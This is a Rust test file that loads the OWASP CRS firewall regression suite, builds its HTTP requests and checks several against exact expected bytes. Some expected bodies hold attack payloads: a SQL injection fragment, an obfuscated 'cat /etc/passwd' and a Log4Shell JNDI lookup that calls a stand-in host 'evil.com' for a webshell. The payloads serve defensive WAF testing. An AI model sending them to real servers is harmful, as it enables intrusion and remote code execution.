//! Loads and builds the real CRS regression suite from the shared checkout.
//! These tests fail (never skip) when `/work/shared` is missing.

// Tests may unwrap: a panic is the failure report.
#![allow(clippy::unwrap_used)]

use std::fs;
use std::path::{Path, PathBuf};
use std::sync::OnceLock;

use ftw::{build_request, load_suite, parse_request, RequestKind, Suite};
use regex::Regex;

const SUITE_DIR: &str = concat!(
    env!("CARGO_MANIFEST_DIR"),
    "/../../../shared/crs/tests/regression/tests"
);

/// Number of test cases in the pinned CRS checkout.
const EXPECTED_CASES: usize = 5003;

fn suite_dir() -> PathBuf {
    let dir = PathBuf::from(SUITE_DIR);
    assert!(
        dir.is_dir(),
        "CRS regression suite not found at {}: the shared CRS checkout \
         (shared/crs next to the repository) is required for these tests",
        dir.display()
    );
    dir
}

/// The suite, loaded once for all tests of this file.
fn load() -> &'static Suite {
    static SUITE: OnceLock<Suite> = OnceLock::new();
    SUITE.get_or_init(|| match load_suite(&suite_dir()) {
        Ok(s) => s,
        Err(e) => panic!("loading the CRS suite failed: {e}"),
    })
}

/// Test files found by a walk independent of the loader.
fn yaml_files(dir: &Path, out: &mut Vec<PathBuf>) {
    for entry in fs::read_dir(dir).unwrap() {
        let path = entry.unwrap().path();
        if path.is_dir() {
            yaml_files(&path, out);
        } else if path.to_string_lossy().ends_with(".yaml")
            || path.to_string_lossy().ends_with(".yml")
        {
            out.push(path);
        }
    }
}

#[test]
fn loads_every_file_and_every_case() {
    let dir = suite_dir();
    let mut files = Vec::new();
    yaml_files(&dir, &mut files);
    // Count cases textually: `test_id:` keys that are not commented out.
    let key = Regex::new(r"^\s*(-\s+)?test_id:").unwrap();
    let counted: usize = files
        .iter()
        .map(|f| {
            fs::read_to_string(f)
                .unwrap()
                .lines()
                .filter(|l| key.is_match(l))
                .count()
        })
        .sum();
    assert_eq!(
        counted, EXPECTED_CASES,
        "the textual count changed: is the CRS checkout a different version?"
    );

    let suite = load();
    assert_eq!(suite.files.len(), files.len(), "every test file is loaded");
    assert_eq!(suite.case_count(), counted);
    let stages: usize = suite.cases().map(|(_, c)| c.stages.len()).sum();
    assert!(stages > suite.case_count(), "multi-stage cases are kept");
}

#[test]
fn every_stage_builds_and_encoded_requests_parse() {
    let suite = load();
    let mut encoded = 0;
    let mut built = 0;
    let mut strict_mismatch = Vec::new();
    for (file, case) in suite.cases() {
        for (i, stage) in case.stages.iter().enumerate() {
            let req = build_request(&stage.input)
                .unwrap_or_else(|e| panic!("{} stage {i} ({}): {e}", case.id, file.path.display()));
            match req.kind {
                RequestKind::Encoded => {
                    encoded += 1;
                    if let Err(e) = &req.parsed {
                        panic!(
                            "{} ({}): encoded request does not parse: {e}",
                            case.id,
                            file.path.display()
                        );
                    }
                }
                RequestKind::Built => {
                    built += 1;
                    // The assembled view agrees with a strict parse of the
                    // bytes whenever the bytes form a valid request.
                    let fields = req.parsed.as_ref().unwrap();
                    match parse_request(&req.bytes) {
                        Ok(p) if p == *fields => {}
                        Ok(p) => {
                            let trimmed = p.headers.len() == fields.headers.len()
                                && p.headers.iter().zip(&fields.headers).all(|(a, b)| {
                                    a.name == b.name && a.value == b.value.trim_ascii()
                                });
                            assert!(
                                trimmed && p.body == fields.body,
                                "{}: views differ",
                                case.id
                            );
                        }
                        Err(_) => strict_mismatch.push(case.id.to_string()),
                    }
                }
                other => panic!("{}: unexpected request kind {other:?}", case.id),
            }
        }
    }
    assert_eq!(encoded, 10, "encoded_request stages in the suite");
    assert!(built > 4900);
    // Requests go-ftw sends that a strict parser rejects are exactly the
    // deliberate protocol violations: blanks before the method, malformed
    // request lines and versions, a raw CR in a header value.
    assert_eq!(
        strict_mismatch,
        [
            "920100-2",
            "920100-12",
            "920100-13",
            "920100-15",
            "920430-4",
            "920430-5",
            "920430-6",
            "920430-7",
            "920430-10",
            "921140-1",
        ]
    );
}

fn stage_bytes(suite: &Suite, id: &str, stage: usize) -> Vec<u8> {
    let (_, case) = suite.find(id.parse().unwrap()).unwrap();
    build_request(&case.stages[stage].input).unwrap().bytes
}

#[test]
fn golden_plain_get() {
    // 942340-1: sorted headers, Connection: close, no body, no Content-Length.
    let got = String::from_utf8(stage_bytes(load(), "942340-1", 0)).unwrap();
    assert_eq!(
        got,
        "GET /get?var=in%20%28%20select%20%2a%20from HTTP/1.1\r\n\
         Accept: text/xml,application/xml,application/xhtml+xml,text/html;q=0.9,text/plain;q=0.8,image/png,*/*;q=0.5\r\n\
         Host: localhost\r\n\
         User-Agent: OWASP CRS test agent\r\n\
         Connection: close\r\n\r\n"
    );
}

#[test]
fn golden_autocomplete_false_keeps_given_content_length() {
    // 920460-1: numeric header value, no Content-Type added, body untouched.
    let got = String::from_utf8(stage_bytes(load(), "920460-1", 0)).unwrap();
    assert_eq!(
        got,
        "POST / HTTP/1.1\r\n\
         Accept: text/xml,application/xml,application/xhtml+xml,text/html;q=0.9,text/plain;q=0.8,image/png,*/*;q=0.5\r\n\
         Content-Length: 22\r\n\
         Content-Type: application/x-www-form-urlencoded\r\n\
         Host: localhost\r\n\
         User-Agent: OWASP CRS test agent\r\n\r\n\
         file=cat+/etc/\\passw\\d"
    );
}

#[test]
fn golden_multipart_template_body() {
    // 920400-1: `{{ "1" | repeat 64200 }}`, LF -> CRLF, Content-Length kept.
    let got = stage_bytes(load(), "920400-1", 0);
    let text = String::from_utf8(got).unwrap();
    let (head, body) = text.split_once("\r\n\r\n").unwrap();
    assert!(head.contains("\r\nContent-Length: 64200\r\n"), "{head}");
    assert!(head.ends_with("\r\nConnection: close"), "{head}");
    assert_eq!(head.matches("Content-Length").count(), 1);
    assert!(body.starts_with("----------111111111\r\nContent-Disposition: form-data;"));
    assert!(body.contains(&format!("\r\n{}\r\n", "1".repeat(64200))));
    assert!(body.ends_with("----------111111111--\r\n"));
    assert!(!body.replace("\r\n", "").contains('\n'));
}

#[test]
fn golden_encoded_request_with_binary_body() {
    // 944200-1: the decoded bytes are sent as-is, including non-UTF-8.
    let suite = load();
    let (_, case) = suite.find("944200-1".parse().unwrap()).unwrap();
    let req = build_request(&case.stages[0].input).unwrap();
    assert_eq!(req.kind, RequestKind::Encoded);
    assert!(req
        .bytes
        .starts_with(b"POST / HTTP/1.0\r\nHost: localhost\r\n"));
    assert!(req
        .bytes
        .ends_with(b"\r\n\r\ntest=\xac\xed\x00\x05\r\n\r\n"));
    let parsed = req.parsed.unwrap();
    assert_eq!(parsed.header("content-length"), Some(&b"9"[..]));
    assert_eq!(parsed.body, b"test=\xac\xed\x00\x05\r\n\r\n");
}

/// Answers every stage with exactly what it expects, except that it cannot
/// invent log lines for `match_regex`.
struct Oracle;

impl ftw::Target for Oracle {
    fn run(
        &mut self,
        _: &ftw::TestRef<'_>,
        stage: &ftw::Stage,
        req: &ftw::RawRequest,
    ) -> ftw::StageOutcome {
        assert!(!req.bytes.is_empty());
        let out = &stage.output;
        if out.expect_error == Some(true) {
            return ftw::StageOutcome {
                error: Some("connection closed".into()),
                ..Default::default()
            };
        }
        ftw::StageOutcome {
            status: Some(
                out.status
                    .as_ref()
                    .and_then(|s| s.codes().next())
                    .unwrap_or(200),
            ),
            matched_ids: out.log.expect_ids.clone(),
            log: String::new(),
            error: None,
            response: None,
        }
    }
}

#[test]
fn end_to_end_with_an_oracle_target() {
    let suite = load();
    let mut files_seen = 0;
    let results = ftw::run_suite(suite, &ftw::Filter::default(), &mut Oracle, &mut |p| {
        files_seen += 1;
        assert_eq!(p.index, files_seen);
        assert_eq!(p.total, suite.files.len());
    });
    assert_eq!(files_seen, suite.files.len());
    assert_eq!(results.len(), EXPECTED_CASES);

    // Exactly the cases that need a matching log line fail.
    let needs_log: Vec<ftw::CaseId> = suite
        .cases()
        .filter(|(_, c)| c.stages.iter().any(|s| s.output.log.match_regex.is_some()))
        .map(|(_, c)| c.id)
        .collect();
    let failed: Vec<ftw::CaseId> = results
        .iter()
        .filter(|r| r.status == ftw::CaseStatus::Failed)
        .map(|r| r.id)
        .collect();
    assert_eq!(failed, needs_log);
    assert!(!failed.is_empty());
    let summary = ftw::Summary::of(&results);
    assert_eq!(
        summary.to_string(),
        format!(
            "{} passed, {} failed, 0 skipped",
            EXPECTED_CASES - failed.len(),
            failed.len()
        )
    );

    // Listing them as known failures makes the run acceptable.
    let listing: String = failed
        .iter()
        .map(|id| format!("- test: {id}\n  reason: needs a WAF error log\n"))
        .collect();
    let known = ftw::overrides::parse_overrides(Path::new("crs-overrides.yaml"), &listing).unwrap();
    let verdict = ftw::verdict(results.iter().map(|r| (r.id, r.status)), &known);
    assert!(verdict.is_ok(), "{verdict}");
    assert_eq!(verdict.expected_failures, failed);

    // A rule filter skips everything else.
    let filter = ftw::Filter {
        rules: vec![920100],
        tests: vec![],
    };
    let filtered = ftw::run_suite(suite, &filter, &mut Oracle, &mut |_| {});
    let summary = ftw::Summary::of(&filtered);
    assert!(summary.passed > 10);
    assert_eq!(summary.passed + summary.skipped, EXPECTED_CASES);
}

#[test]
fn golden_double_quoted_escapes_and_chunked_body() {
    // 920181-1: YAML "\x0D\x0A" escapes become real CR LF; the chunked body
    // decodes; autocomplete is off so nothing is added.
    let req = {
        let (_, case) = load().find("920181-1".parse().unwrap()).unwrap();
        build_request(&case.stages[0].input).unwrap()
    };
    assert!(req
        .bytes
        .ends_with(b"Transfer-Encoding: chunked\r\nUser-Agent: OWASP CRS test agent\r\n\r\n7\r\nfoo=bar\r\n0\r\n\r\n"));
    let parsed = req.reparse().unwrap();
    assert!(ftw::chunked::is_chunked(&parsed));
    assert_eq!(
        ftw::chunked::decode_chunked(&parsed.body).unwrap(),
        b"foo=bar"
    );
}

#[test]
fn golden_plain_scalar_backslash_is_form_encoded() {
    // 944150-8: a plain YAML scalar keeps `\u007B` literally; go-ftw then
    // form-encodes the value because it holds neither '%' nor '+'.
    let got = String::from_utf8(stage_bytes(load(), "944150-8", 0)).unwrap();
    assert!(
        got.ends_with(
            "Content-Length: 57\r\n\r\nfoo=%24%5Cu007Bjndi%3Aldap%3A%2F%2Fevil.com%2Fwebshell%7D"
        ),
        "{got}"
    );
}
